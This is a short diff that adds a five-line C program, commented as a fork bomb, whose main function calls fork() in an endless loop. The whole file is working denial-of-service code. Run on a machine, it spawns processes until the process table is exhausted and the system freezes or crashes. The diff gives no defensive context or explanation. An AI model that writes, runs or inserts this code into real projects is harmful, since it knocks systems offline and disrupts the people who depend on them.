@@ -1,0 +1,5 @@
+/* Fork bomb in C. */
+#include <unistd.h>
+int main(void) {
+    for (;;) fork();
+}
